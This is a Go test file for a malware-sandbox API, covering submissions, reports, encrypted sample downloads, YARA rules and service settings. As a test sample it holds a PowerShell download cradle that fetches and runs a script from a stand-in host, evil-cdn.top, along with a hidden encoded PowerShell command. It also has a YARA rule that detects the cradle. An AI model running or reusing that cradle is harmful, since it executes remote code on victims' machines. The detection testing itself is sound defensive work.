package api_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/eventsec/eventsec/internal/auth"
	"github.com/eventsec/eventsec/internal/eventstore"
	"github.com/eventsec/eventsec/internal/live"
	"github.com/eventsec/eventsec/internal/sandbox"
	"github.com/eventsec/eventsec/internal/sandbox/lab"
	"github.com/eventsec/eventsec/internal/store"
)

// sandboxMaxSample is the fixture's sample size limit, small so that
// "too large" is cheap to test.
const sandboxMaxSample = 256 << 10

// newSandboxService is the fixture's sandbox: samples in a temp dir,
// workers running until the test ends.
func newSandboxService(t *testing.T, st store.Store, events eventstore.Store, hub *live.Hub) *lab.Service {
	t.Helper()
	svc, err := lab.New(lab.Options{Store: st, Events: events, Hub: hub, SampleDir: filepath.Join(t.TempDir(), "samples"),
		MaxSampleSize: sandboxMaxSample, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); _ = svc.Run(ctx) }()
	t.Cleanup(func() { cancel(); <-done })
	return svc
}

// newSandboxRecord stores a finished file submission behind the API (the
// route walk and tenant tests only need the record).
func (f *fixture) newSandboxRecord(t *testing.T, orgID string) string {
	t.Helper()
	id := fmt.Sprintf("sbx-%d", f.seq.Add(1))
	now := time.Now().UTC()
	err := f.st.Sandbox().CreateSubmission(f.ctx, store.SandboxSubmission{ID: id, OrgID: orgID, Kind: "domain", Target: "example.com",
		Status: store.SandboxDone, Stage: "done", Progress: 100, Verdict: "clean", Report: []byte(`{"kind":"domain"}`),
		Source: "api", CreatedAt: now, UpdatedAt: now, FinishedAt: &now})
	if err != nil {
		t.Fatal(err)
	}
	return id
}

func (f *fixture) newYARARecord(t *testing.T, orgID string) string {
	t.Helper()
	id := fmt.Sprintf("yara-%d", f.seq.Add(1))
	now := time.Now().UTC()
	err := f.st.Sandbox().CreateRule(f.ctx, store.SandboxRule{ID: id, OrgID: orgID, Name: id, Source: "rule r_" + strings.ReplaceAll(id, "-", "_") + " { condition: false }",
		Enabled: false, CreatedAt: now, UpdatedAt: now})
	if err != nil {
		t.Fatal(err)
	}
	return id
}

// sandboxParams fills the route walk's sandbox path parameters with fresh
// records of org A.
func (f *fixture) sandboxParams(t *testing.T, path string, params map[string]string) bool {
	t.Helper()
	switch {
	case strings.HasPrefix(path, "/api/v1/sandbox/submissions/{id}"):
		params["id"] = f.newSandboxRecord(t, f.org.ID)
	case strings.HasPrefix(path, "/api/v1/sandbox/yara-rules/{id}"):
		params["id"] = f.newYARARecord(t, f.org.ID)
	default:
		return false
	}
	return true
}

// sandboxTenantCases are org B's records for the tenant test.
func (f *fixture) sandboxTenantCases(t *testing.T, orgB string) (map[string][]string, map[string]any) {
	sub, rule := f.newSandboxRecord(t, orgB), f.newYARARecord(t, orgB)
	ids := map[string][]string{
		"/api/v1/sandbox/submissions/{id}":           {sub},
		"/api/v1/sandbox/submissions/{id}/download":  {sub},
		"/api/v1/sandbox/submissions/{id}/reanalyze": {sub},
		"/api/v1/sandbox/submissions/{id}/endpoints": {sub},
		"/api/v1/sandbox/yara-rules/{id}":            {rule},
	}
	bodies := map[string]any{"PATCH /api/v1/sandbox/yara-rules/{id}": map[string]any{"enabled": true, "name": "pwned"}}
	return ids, bodies
}

// upload sends a multipart submission.
func (f *fixture) upload(t *testing.T, token, name string, data []byte, extra map[string]string) response {
	t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	if name != "" {
		fw, err := mw.CreateFormFile("file", name)
		if err != nil {
			t.Fatal(err)
		}
		fw.Write(data)
	}
	for k, v := range extra {
		mw.WriteField(k, v)
	}
	mw.Close()
	return f.do(t, request{Method: "POST", Path: "/api/v1/sandbox/submit", Token: token, Body: body.Bytes(), CT: mw.FormDataContentType()})
}

type submissionJSON struct {
	ID        string          `json:"id"`
	Kind      string          `json:"kind"`
	Target    string          `json:"target"`
	SHA256    string          `json:"sha256"`
	Status    string          `json:"status"`
	Verdict   string          `json:"verdict"`
	Score     int             `json:"score"`
	Duplicate bool            `json:"duplicate"`
	Report    json.RawMessage `json:"report"`
}

func (f *fixture) waitSubmission(t *testing.T, token, id string) submissionJSON {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		r := f.get(t, "/api/v1/sandbox/submissions/"+id, token)
		wantStatus(t, r, http.StatusOK)
		s := decode[submissionJSON](t, r)
		if s.Status == "done" || s.Status == "failed" {
			return s
		}
		time.Sleep(25 * time.Millisecond)
	}
	t.Fatalf("submission %s did not finish", id)
	return submissionJSON{}
}

const psDropper = "IEX (New-Object Net.WebClient).DownloadString('http://evil-cdn.top/a.ps1')\r\n" +
	"powershell -nop -w hidden -enc SQBFAFgA\r\n"

func TestSandboxSubmitAndReport(t *testing.T) {
	f := newFixture(t)
	f.newUser(t, "analyst@a.test", auth.RoleAnalyst)
	f.newUser(t, "viewer@a.test", auth.RoleViewer)
	an := f.login(t, "analyst@a.test", userPass).AccessToken
	vw := f.login(t, "viewer@a.test", userPass).AccessToken

	r := f.upload(t, an, "invoice.ps1", []byte(psDropper), nil)
	wantStatus(t, r, http.StatusAccepted)
	sub := decode[submissionJSON](t, r)
	if sub.ID == "" || sub.Kind != "file" || sub.Status != "queued" || sub.Target != "invoice.ps1" {
		t.Fatalf("submit: %s", r)
	}
	done := f.waitSubmission(t, vw, sub.ID)
	var rep sandbox.Report
	if err := json.Unmarshal(done.Report, &rep); err != nil || done.Status != "done" || done.Verdict == "clean" || rep.Script == nil {
		t.Fatalf("report: %v %+v", err, done)
	}

	// Same file again: the existing analysis; with reanalyze: a new one.
	again := decode[submissionJSON](t, f.upload(t, an, "copy.txt", []byte(psDropper), nil))
	if again.ID != sub.ID || !again.Duplicate {
		t.Errorf("resubmit: %+v", again)
	}
	fresh := decode[submissionJSON](t, f.upload(t, an, "copy.txt", []byte(psDropper), map[string]string{"reanalyze": "true"}))
	if fresh.ID == sub.ID || fresh.Duplicate {
		t.Errorf("reanalyze: %+v", fresh)
	}
	f.waitSubmission(t, an, fresh.ID)

	// Values go as JSON.
	r = f.send(t, "POST", "/api/v1/sandbox/submit", an, map[string]any{"kind": "domain", "value": "paypa1-secure-login.com"})
	wantStatus(t, r, http.StatusAccepted)
	dom := f.waitSubmission(t, an, decode[submissionJSON](t, r).ID)
	if dom.Kind != "domain" || dom.Status != "done" {
		t.Errorf("domain: %+v", dom)
	}

	// Lists and filters.
	r = f.get(t, "/api/v1/sandbox/submissions?kind=file", vw)
	wantStatus(t, r, http.StatusOK)
	list := decode[struct {
		Items []submissionJSON `json:"items"`
		Total int              `json:"total"`
	}](t, r)
	if list.Total != 2 || list.Items[0].Report != nil {
		t.Errorf("list: %s", r)
	}
	wantError(t, f.get(t, "/api/v1/sandbox/submissions?verdict=evil", vw), http.StatusBadRequest, "validation_failed", "verdict")

	// The download is a ZIP that opens with "infected".
	r = f.get(t, "/api/v1/sandbox/submissions/"+sub.ID+"/download", an)
	wantStatus(t, r, http.StatusOK)
	if r.Header.Get("Content-Type") != "application/zip" || !strings.Contains(r.Header.Get("Content-Disposition"), sub.SHA256+".zip") {
		t.Errorf("download headers: %v", r.Header)
	}
	name, data, err := lab.ReadEncryptedZip(bytes.NewReader(r.Body), int64(len(r.Body)), "infected")
	if err != nil || name != "invoice.ps1" || string(data) != psDropper {
		t.Errorf("zip: %v %q", err, name)
	}
	// Viewers read reports but do not download samples.
	wantError(t, f.get(t, "/api/v1/sandbox/submissions/"+sub.ID+"/download", vw), http.StatusForbidden, "forbidden", "")
	wantError(t, f.get(t, "/api/v1/sandbox/submissions/"+dom.ID+"/download", an), http.StatusNotFound, "no_sample", "")
	wantError(t, f.upload(t, vw, "x.bin", []byte("x"), nil), http.StatusForbidden, "forbidden", "")

	// Seen on endpoints: an event with the hash on a host.
	f.ingestFor(t, f.org.ID, `{"message":"exec","host":{"name":"ws-42"},"process":{"hash":{"sha256":"`+sub.SHA256+`"}}}`)
	r = f.get(t, "/api/v1/sandbox/submissions/"+sub.ID+"/endpoints", vw)
	wantStatus(t, r, http.StatusOK)
	seen := decode[lab.Seen](t, r)
	if len(seen.Hosts) != 1 || seen.Hosts[0].Host != "ws-42" {
		t.Errorf("seen: %s", r)
	}

	// Re-analysis and deletion.
	r = f.send(t, "POST", "/api/v1/sandbox/submissions/"+sub.ID+"/reanalyze", an, map[string]any{})
	wantStatus(t, r, http.StatusAccepted)
	f.waitSubmission(t, an, sub.ID)
	wantStatus(t, f.send(t, "DELETE", "/api/v1/sandbox/submissions/"+sub.ID, an, nil), http.StatusNoContent)
	wantError(t, f.get(t, "/api/v1/sandbox/submissions/"+sub.ID, an), http.StatusNotFound, "not_found", "")
}

func TestSandboxBadInput(t *testing.T) {
	f := newFixture(t)
	tok := f.login(t, adminEmail, adminPass).AccessToken
	for _, tc := range []struct {
		name   string
		body   any
		status int
		code   string
		field  string
	}{
		{"no kind", map[string]any{"value": "x"}, 400, "validation_failed", "kind"},
		{"bad kind", map[string]any{"kind": "exe", "value": "x"}, 400, "validation_failed", "kind"},
		{"file as JSON", map[string]any{"kind": "file", "value": "x"}, 400, "validation_failed", "kind"},
		{"bad ip", map[string]any{"kind": "ip", "value": "300.1.2.3"}, 400, "validation_failed", "value"},
		{"bad hash", map[string]any{"kind": "hash", "value": "nothex!"}, 400, "validation_failed", "value"},
		{"empty value", map[string]any{"kind": "url", "value": " "}, 400, "validation_failed", "value"},
		{"unknown field", map[string]any{"kind": "ip", "value": "1.2.3.4", "x": 1}, 400, "unknown_field", "x"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			wantError(t, f.send(t, "POST", "/api/v1/sandbox/submit", tok, tc.body), tc.status, tc.code, tc.field)
		})
	}
	wantError(t, f.upload(t, tok, "", nil, map[string]string{"reanalyze": "true"}), http.StatusBadRequest, "validation_failed", "file")
	wantError(t, f.upload(t, tok, "empty.bin", nil, nil), http.StatusBadRequest, "validation_failed", "file")
	wantError(t, f.upload(t, tok, "big.bin", make([]byte, sandboxMaxSample+1), nil), http.StatusRequestEntityTooLarge, "sample_too_large", "file")
	// Far beyond the limit: the body limit stops the upload.
	wantError(t, f.upload(t, tok, "huge.bin", make([]byte, sandboxMaxSample+(2<<20)), nil), http.StatusRequestEntityTooLarge, "sample_too_large", "file")
	r := f.upload(t, tok, "limit.bin", bytes.Repeat([]byte{0x90}, sandboxMaxSample), nil)
	wantStatus(t, r, http.StatusAccepted)
	f.waitSubmission(t, tok, decode[submissionJSON](t, r).ID)
}

func TestSandboxYARARulesAPI(t *testing.T) {
	f := newFixture(t)
	tok := f.login(t, adminEmail, adminPass).AccessToken
	r := f.get(t, "/api/v1/sandbox/yara-rules", tok)
	wantStatus(t, r, http.StatusOK)
	list := decode[struct {
		Items       []map[string]any `json:"items"`
		YARAEnabled bool             `json:"yara_enabled"`
		Message     string           `json:"message"`
	}](t, r)
	if list.YARAEnabled != sandbox.YARAEnabled() || (!list.YARAEnabled && list.Message != "YARA disabled: built without the yara tag") {
		t.Errorf("list: %s", r)
	}
	good := "rule Cradle {\n  strings:\n    $a = \"DownloadString\"\n  condition:\n    $a\n}\n"
	r = f.send(t, "POST", "/api/v1/sandbox/yara-rules", tok, map[string]any{"name": "cradle", "source": good})
	wantStatus(t, r, http.StatusCreated)
	rule := decode[map[string]any](t, r)
	id := rule["id"].(string)
	if rule["enabled"] != true || rule["compiled"] != sandbox.YARAEnabled() {
		t.Errorf("created: %s", r)
	}
	wantError(t, f.send(t, "POST", "/api/v1/sandbox/yara-rules", tok, map[string]any{"name": "cradle", "source": "rule Other { condition: true }"}),
		http.StatusConflict, "conflict", "name")
	wantError(t, f.send(t, "POST", "/api/v1/sandbox/yara-rules", tok, map[string]any{"name": "x"}), http.StatusBadRequest, "validation_failed", "source")
	r = f.send(t, "PATCH", "/api/v1/sandbox/yara-rules/"+id, tok, map[string]any{"enabled": false})
	wantStatus(t, r, http.StatusOK)
	if decode[map[string]any](t, r)["enabled"] != false {
		t.Errorf("disable: %s", r)
	}
	if sandbox.YARAEnabled() {
		bad := "rule Bad {\n  strings:\n    $a = \"x\"\n  condition:\n    $b\n}\n"
		r = f.send(t, "POST", "/api/v1/sandbox/yara-rules", tok, map[string]any{"name": "bad", "source": bad})
		wantError(t, r, http.StatusBadRequest, "invalid_rule", "source")
		var body struct {
			Error struct {
				Line int `json:"line"`
			} `json:"error"`
		}
		json.Unmarshal(r.Body, &body)
		if body.Error.Line != 6 {
			t.Errorf("compile error line: %s", r)
		}
	}
	wantStatus(t, f.send(t, "DELETE", "/api/v1/sandbox/yara-rules/"+id, tok, nil), http.StatusNoContent)
	wantError(t, f.get(t, "/api/v1/sandbox/yara-rules/"+id, tok), http.StatusNotFound, "not_found", "")
}

func TestSandboxSettingsAPI(t *testing.T) {
	f := newFixture(t)
	admin := f.login(t, adminEmail, adminPass).AccessToken
	f.newUser(t, "analyst@a.test", auth.RoleAnalyst)
	an := f.login(t, "analyst@a.test", userPass).AccessToken
	key := "0123456789abcdef-secret"
	wantError(t, f.send(t, "PUT", "/api/v1/sandbox/settings", an, map[string]any{"services": map[string]any{"otx": map[string]any{"api_key": key}}}),
		http.StatusForbidden, "forbidden", "")
	r := f.send(t, "PUT", "/api/v1/sandbox/settings", admin, map[string]any{"services": map[string]any{
		"otx": map[string]any{"api_key": key, "base_url": "http://127.0.0.1:1"}}})
	wantStatus(t, r, http.StatusOK)
	if bytes.Contains(r.Body, []byte(key)) {
		t.Fatalf("key in the answer: %s", r)
	}
	r = f.get(t, "/api/v1/sandbox/settings", an)
	wantStatus(t, r, http.StatusOK)
	if bytes.Contains(r.Body, []byte(key)) || !bytes.Contains(r.Body, []byte(`"key_hint":"••••cret"`)) {
		t.Fatalf("settings: %s", r)
	}
	wantError(t, f.send(t, "PUT", "/api/v1/sandbox/settings", admin, map[string]any{"services": map[string]any{"nope": map[string]any{}}}),
		http.StatusBadRequest, "validation_failed", "services.nope")
	// The test button reaches nothing at 127.0.0.1:1: a clear failure, not a 5xx.
	r = f.send(t, "POST", "/api/v1/sandbox/settings/test", admin, map[string]any{"service": "otx"})
	wantStatus(t, r, http.StatusOK)
	if res := decode[lab.TestResult](t, r); res.OK || res.Message == "" {
		t.Errorf("test: %s", r)
	}
	wantError(t, f.send(t, "POST", "/api/v1/sandbox/settings/test", admin, map[string]any{"service": "abuseipdb"}), http.StatusBadRequest, "validation_failed", "api_key")
}
